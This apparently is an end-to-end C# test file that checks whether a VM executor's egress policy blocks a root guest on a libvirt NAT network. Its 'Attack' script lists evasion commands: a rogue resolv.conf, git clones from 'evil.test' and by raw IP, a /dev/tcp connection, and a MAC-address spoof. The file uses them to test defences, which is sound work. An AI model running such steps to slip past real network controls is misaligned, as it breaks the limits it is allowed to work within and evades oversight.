using FluentAssertions;
using VmExecutor.EndToEnd.Tests.Benches;
using VmExecutor.EndToEnd.Tests.Images;
using VmExecutor.EndToEnd.Tests.Instruments;
using VmExecutor.RunnerSimulator;
using VmExecutor.RunnerSimulator.Jobs;
using VmExecutor.RunnerSimulator.Stages;
using Xunit;

namespace VmExecutor.EndToEnd.Tests.Cases;

/// <summary>A guest on a libvirt network with NAT under an egress policy: root in it tries other names, addresses, name servers, and another MAC address.</summary>
[AlwaysCold("its libvirt is its own")]
public sealed class NetworkEgressTests(TestMachine machine) : IsolatedTest(machine, "nft", "dnsmasq", "git", "prlimit", "iptables")
{
    private const string Network = "vmx-nat";
    private const string Subnet = "192.168.234";

    private const string NetworkXml = $"""
        <network xmlns:dnsmasq='http://libvirt.org/schemas/network/dnsmasq/1.0'>
          <name>{Network}</name>
          <forward mode='nat'/>
          <bridge name='{Network}' stp='off'/>
          <ip address='{Subnet}.1' netmask='255.255.255.0'>
            <dhcp><range start='{Subnet}.10' end='{Subnet}.99'/></dhcp>
          </ip>
          <dnsmasq:options><dnsmasq:option value='dhcp-ignore-clid'/><dnsmasq:option value='no-ping'/></dnsmasq:options>
        </network>
        """;

    private const string BridgeXml = "<network><name>vmx-bridge</name><forward mode='bridge'/><bridge name='inside'/></network>";

    private static readonly string[] Attack =
    [
        "echo nameserver 192.0.2.3 > /run/resolv.conf",
        "! git clone -q git://git.example.test/project /tmp/allowed || echo cloned-allowed-$((1+1))",
        "! git clone -q git://evil.test/project /tmp/evil || echo cloned-evil-$((1+1))",
        "! timeout 60 git clone -q git://192.0.2.3/project /tmp/number || echo cloned-by-number-$((1+1))",
        "! timeout 60 bash -c '< /dev/tcp/192.0.2.1/9999' || echo host-$((1+1))",

        // In a session of its own: the connection of this script breaks by it, and comes back with the address.
        "setsid sh -c 'busybox ip link set eth0 down; busybox ip link set eth0 address 52:54:00:99:99:99; busybox ip link set eth0 up; sleep 1; busybox ip route add default via 192.168.234.1; timeout 60 git ls-remote git://192.0.2.3/project > /run/renamed 2>&1; busybox ip link set eth0 down; busybox ip link set eth0 address '$(cat /sys/class/net/eth0/address)'; busybox ip link set eth0 up; busybox ip route add default via 192.168.234.1; touch /run/tried' > /dev/null 2>&1 < /dev/null &",
        "i=0; while [ ! -e /run/tried ] && [ $i -lt 300 ]; do sleep 1; i=$((i+1)); done; ls /run/tried; ! grep -q HEAD /run/renamed || echo renamed-$((1+1))",
    ];

    [Fact(Timeout = 2 * HangLimit, Explicit = true)]
    public async Task A_job_on_a_libvirt_network_clones_from_an_allowed_name_and_is_refused_all_else_and_told_so()
    {
        await using var world = await EgressWorld.StartAsync(Libvirt, Bench.MakeDirectory("world"));
        await MakeNetworkAsync(NetworkXml);
        world.Start(Libvirt.Inside, "python3", "-m", "http.server", "9999", "--bind", "192.0.2.1");
        var image = new ImageYaml { Network = Network, Cmdline = $"{Machine.Guest.Cmdline} vmx.net=dhcp", User = "root" };
        Bench.With(image);
        var free = await Bench.RunJobAsync(new SimulatedJob { Id = 1721, Image = "small", Script = Attack });
        Bench.With(image with { Further = ["egress: {allow: .example.test}"] });

        var result = await Bench.RunJobAsync(new SimulatedJob { Id = 1722, Image = "small", Script = Attack });
        var left = await Libvirt.OutputAsync("nft", "list", "tables");

        free.TraceText.Should().Contain("cloned-allowed-2").And.Contain("cloned-evil-2").And.Contain("cloned-by-number-2").And.Contain("host-2").And.Contain("renamed-2", "the test proves nothing otherwise");
        result.State.Should().Be(JobState.Success, result.ToString());
        result.TraceText.Should().Contain("cloned-allowed-2").And.Contain("/run/tried").And.NotContain("cloned-evil-2").And.NotContain("cloned-by-number-2").And.NotContain("host-2").And.NotContain("renamed-2");
        result.Last(Stage.Run, SubStages.BuildScript).ErrorText.Should().Contain("WARNING: egress policy 'small' refused evil.test\n")
            .And.Contain("WARNING: egress policy 'small' refused 192.0.2.3:9418\n").And.Contain("WARNING: egress policy 'small' refused 192.0.2.1:9999\n");
        left.Should().NotContain("vm_executor_egress");
        (await Bench.Leftovers.FindAsync()).Should().BeEmpty();
    }

    [Fact(Timeout = HangLimit, Explicit = true)]
    public async Task A_policy_on_a_network_that_the_host_does_not_route_is_refused_by_check_and_prepare()
    {
        await using var world = await EgressWorld.StartAsync(Libvirt, Bench.MakeDirectory("world"));
        await MakeNetworkAsync(BridgeXml);
        Bench.With(new ImageYaml { Network = "vmx-bridge", Further = ["egress: {allow: .example.test}"] });

        var (exit, output, error) = await Bench.CommandAsync("check");
        var session = Bench.Open(new SimulatedJob { Id = 1723 });
        await session.ConfigAsync();
        var prepare = await session.PrepareAsync();
        await session.CleanupAsync();

        exit.Should().NotBe(0, output);
        foreach (var text in (string[])[output + error, prepare.OutputText])
        {
            text.Should().Contain("VMX1804").And.Contain("the libvirt network 'vmx-bridge' has 'forward mode' bridge");
        }

        (await Bench.Leftovers.FindAsync()).Should().BeEmpty();
    }

    private async Task MakeNetworkAsync(string xml)
    {
        var file = Path.Combine(Bench.MakeDirectory("network"), "network.xml");
        await File.WriteAllTextAsync(file, xml);
        await Libvirt.OutputAsync("virsh", "-c", "qemu:///system", "net-create", file);
    }
}
